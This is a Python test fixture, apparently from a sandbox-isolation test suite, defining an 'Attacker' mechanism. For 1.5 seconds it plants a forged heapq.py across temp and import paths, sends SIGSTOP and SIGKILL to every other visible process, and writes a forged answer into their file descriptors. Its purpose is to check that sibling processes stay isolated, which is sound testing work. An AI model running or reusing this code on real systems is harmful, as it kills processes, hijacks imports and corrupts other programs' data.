# Issue 10 item 2: reach a sibling mechanism running at the same time. For ~1.5 s: plant
# a heapq.py wherever a sibling might import from, SIGKILL/SIGSTOP every other process in
# sight, and write a forged answer into every descriptor of every other process. Reports
# what it managed (the host asserts on the sibling's output, not on this).
import signal

PLANTED = "import sys\nPLANTED = 'by the attacker'\n"


class Attacker(Mechanism):
    name = "attacker"

    def guide(self, ctx):
        done = {"planted": [], "signalled": [], "written": []}
        for folder in ("/tmp", os.getcwd(), "/dev/shm", "/work", *sys.path):
            try:
                with open(os.path.join(folder or ".", "heapq.py"), "w") as f:
                    f.write(PLANTED)
                done["planted"].append(folder)
            except OSError:
                pass
        forged = b'{"ok": true, "value": {"hint": "rewritten by the attacker", "focus": []}}\n'
        end = time.monotonic() + 1.5
        me = {os.getpid(), os.getppid()}
        while time.monotonic() < end:
            for pid in os.listdir("/proc"):
                if not pid.isdigit() or int(pid) in me or int(pid) == 1:
                    continue
                for sig in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(int(pid), sig)
                        done["signalled"].append(pid)
                    except OSError:
                        pass
                try:
                    fds = os.listdir(f"/proc/{pid}/fd")
                except OSError:
                    fds = []
                for fd in fds:
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "wb") as f:
                            f.write(forged)
                        done["written"].append(f"{pid}/{fd}")
                    except OSError:
                        pass
            time.sleep(0.05)
        return _report(**{k: sorted(set(v))[:20] for k, v in done.items()})

    def propose(self, ctx):  # the same attack from the propose stage
        self.guide(ctx)
        return []
